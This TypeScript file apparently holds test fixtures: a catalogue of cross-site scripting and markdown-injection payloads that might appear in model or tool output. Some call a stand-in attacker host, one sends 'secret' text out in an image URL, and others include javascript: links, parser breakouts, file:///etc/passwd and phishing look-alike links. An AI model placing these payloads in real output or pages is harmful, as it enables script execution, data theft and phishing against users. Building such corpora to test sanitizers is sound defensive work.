/** Something that a model, a tool or a file may say to make a page do what the reader did not ask for. */
export interface Payload {
  readonly name: string
  /** `{evil}` stands for an address whose server counts who asks. */
  readonly text: string
}

/** What code sets when it runs. */
const RUN = 'parent.hacked=top.hacked=window.hacked=1'

const html: Record<string, string> = {
  script: `<script>${RUN}</script>`,
  'script from elsewhere': '<script src="{evil}/a.js"></script>',
  'module script': '<script type="module">import("{evil}/b.js")</script>',
  'image that fails': `<img src="evil-missing.png" onerror="${RUN}">`,
  'image from elsewhere': '<img src="{evil}/c.png">',
  'image set': '<img srcset="{evil}/d.png 1x"><picture><source srcset="{evil}/e.png"></picture>',
  'svg that loads': `<svg onload="${RUN}"><image href="{evil}/f.png" /></svg>`,
  'svg with a script': `<svg><script>${RUN}</script></svg>`,
  'svg with an animation': `<svg><a><animate attributeName="href" values="javascript:${RUN}" /><text y="9">x</text></a></svg>`,
  'svg with foreign content': `<svg><foreignObject><iframe srcdoc="<script>${RUN}</script>"></iframe></foreignObject></svg>`,
  'frame with a document': `<iframe srcdoc="<script>${RUN}</script>"></iframe>`,
  'frame from elsewhere': '<iframe src="{evil}/g.html"></iframe>',
  'frame with an address that is code': `<iframe src="javascript:${RUN}"></iframe>`,
  object: '<object data="{evil}/h.swf"></object><embed src="{evil}/i.swf">',
  video: `<video src="{evil}/j.mp4" poster="{evil}/k.png" autoplay onloadstart="${RUN}"></video>`,
  audio: `<audio src="{evil}/l.mp3" autoplay onerror="${RUN}"></audio>`,
  form: '<form action="{evil}/m" method="post"><input name="password" autofocus><button>Sign in</button></form>',
  'focus that runs': `<input autofocus onfocus="${RUN}">`,
  details: `<details open ontoggle="${RUN}"><summary>x</summary></details>`,
  'style sheet': '<style>body { display: none } @import url("{evil}/n.css");</style>',
  'style attribute':
    '<p style="position:fixed;inset:0;background:url({evil}/o.png)">Covers all</p>',
  link: '<link rel="stylesheet" href="{evil}/p.css"><link rel="prefetch" href="{evil}/q">',
  base: '<base href="{evil}/">',
  'meta refresh': '<meta http-equiv="refresh" content="0;url={evil}/r">',
  'meta policy': '<meta http-equiv="Content-Security-Policy" content="default-src *">',
  'element that clobbers':
    '<a id="evilclobber"></a><form name="evilclobber"><input id="body"></form>',
  'html in maths': `<math><mtext><style><img src="{evil}/s.png" onerror="${RUN}"></style></mtext></math>`,
  'html in a comment': `<!--><img src="{evil}/t.png" onerror="${RUN}">-->`,
  'html that breaks out of a title': `</title></textarea></style></script><img src="{evil}/u.png" onerror="${RUN}">`,
  'template with a shadow': `<template shadowrootmode="open"><img src="{evil}/v.png" onerror="${RUN}"></template>`,
  'custom element': `<x-evil onclick="${RUN}" contenteditable>x</x-evil>`,
  'attribute without quotes': `<img/src=\`evil-x\`/onerror=${RUN}>`,
  'null in a tag': `<scr\u0000ipt>${RUN}</scr\u0000ipt>`,
  'half a tag': `<img src="{evil}/w.png" onerror="${RUN}"`,
  'entities that become a tag': `&lt;img src="{evil}/x.png" onerror="${RUN}"&gt;&#60;script&#62;${RUN}&#60;/script&#62;`,
}

const addresses: Record<string, string> = {
  javascript: `[click](javascript:${RUN})`,
  'javascript in capitals': `[click](JaVaScRiPt:${RUN})`,
  'javascript with entities': `[click](java&#115;cript&colon;${RUN})`,
  'javascript with a tab': `[click](<java\tscript:${RUN}>)`,
  'javascript with a control character': `[click](\u0001javascript:${RUN})`,
  'javascript after spaces': `[click](  javascript:${RUN})`,
  'javascript by percent': `[click](javascript%3A${RUN})`,
  'javascript with a line end': '[click](<javascript://evil.example/%0aparent.hacked=1>)',
  vbscript: '[click](vbscript:msgbox)',
  'data document': `[click](data:text/html,<script>${RUN}</script>)`,
  'data document in base64':
    '[click](data:text/html;base64,PHNjcmlwdD5wYXJlbnQuaGFja2VkPTE8L3NjcmlwdD4=)',
  blob: '[click](blob:https://evil.example/1)',
  file: '[click](file:///etc/passwd)',
  'address without a scheme': '[click](//evil.example/a) ![x](//evil.example/b.png)',
  'path of the app': '[click](/logout?evil) ![x](/evil.png) [click](?evil=1) [click](#evil)',
  'address in brackets': `<javascript:${RUN}>`,
  'reference to code': `[click][r]\n\n[r]: javascript:${RUN}`,
  'reference with a known name':
    '[__proto__] [constructor]\n\n[__proto__]: https://a.example\n[constructor]: javascript:x',
  'address that breaks out of an attribute': `[click](https://a.example"onmouseover="${RUN})`,
  'title that breaks out': `[click](https://a.example '"><img src={evil}/y.png onerror=${RUN}>')`,
  'name of a host that is another': '[https://bank.example](https://evil.example/login)',
  'user in an address': '[bank.example](https://bank.example@evil.example/)',
  'turned round text': '[\u202Eelpmaxe.knab](https://evil.example/)',
}

const images: Record<string, string> = {
  'image from elsewhere': '![x]({evil}/1.png)',
  'image with what was said': '![x]({evil}/2.png?said=secret)',
  'image with a title': '![x]({evil}/3.png "title")',
  'image by reference': '![x][i]\n\n[i]: {evil}/4.png',
  'image in a link': '[![x]({evil}/5.png)](https://a.example)',
  'image in a table': '| a |\n|---|\n| ![x]({evil}/6.png) |',
  'image in a heading': '# ![x]({evil}/7.png)',
  'image in a list': '- [x] ![x]({evil}/8.png)',
  'image in a footnote': 'a[^1]\n\n[^1]: ![x]({evil}/9.png)',
  'image that is code': `![x](javascript:${RUN})`,
  'image that is a document': '![x](data:text/html;base64,PHNjcmlwdD4=)',
  'image with a description that breaks out': `![" onerror="${RUN}]({evil}/10.png)`,
  'image that is a drawing with a script': `![x](data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><script>${RUN}</script><image href='{evil}/11.png'/></svg>)`,
  'image that is cut off': '![x]({evil}/12.png',
}

const syntax: Record<string, string> = {
  'code that is a page': `\`\`\`html\n<script>${RUN}</script><img src={evil}/20.png>\n\`\`\``,
  'language that breaks out': `\`\`\`"><img src={evil}/21.png onerror=${RUN}>\ncode\n\`\`\``,
  'cell that breaks out': `| <img src={evil}/22.png onerror=${RUN}> |\n|---|\n| <script>${RUN}</script> |`,
  'label of a note that breaks out': `a[^"><img/src={evil}/23.png>]\n\n[^"><img/src={evil}/23.png>]: <script>${RUN}</script>`,
  'formula that links': String.raw`$$\href{javascript:parent.hacked=1}{x} \url{https://evil.example} \includegraphics{https://evil.example/24.png}$$`,
  'formula that styles': String.raw`$\htmlStyle{position:fixed;inset:0;background:url(https://evil.example/25.png)}{x} \htmlId{evilclobber}{x}$`,
  'formula with html': `$\\text{<img src={evil}/26.png onerror=${RUN}>}$`,
  'formula without an end': String.raw`$\def\x{\x\x}\x$`,
  'very deep quotes': `${'>'.repeat(400)} <img src={evil}/27.png onerror=${RUN}>`,
  'names of everything': '__proto__ constructor toString evilclobber hasOwnProperty',
  'template of the framework': `{{ constructor.constructor("${RUN}")() }} \${${RUN}} <%= ${RUN} %>`,
  'terminal escapes': `\u001B]8;;{evil}/28\u0007click\u001B]8;;\u0007 \u001B[2J\u009B31m`,
}

const named = (kind: string, payloads: Record<string, string>): Payload[] =>
  Object.entries(payloads).map(([name, text]) => ({ name: `${kind}: ${name}`, text }))

/** Everything, by kind. */
export const XSS_CORPUS: readonly Payload[] = [
  ...named('HTML', html),
  ...named('address', addresses),
  ...named('image', images),
  ...named('syntax', syntax),
]
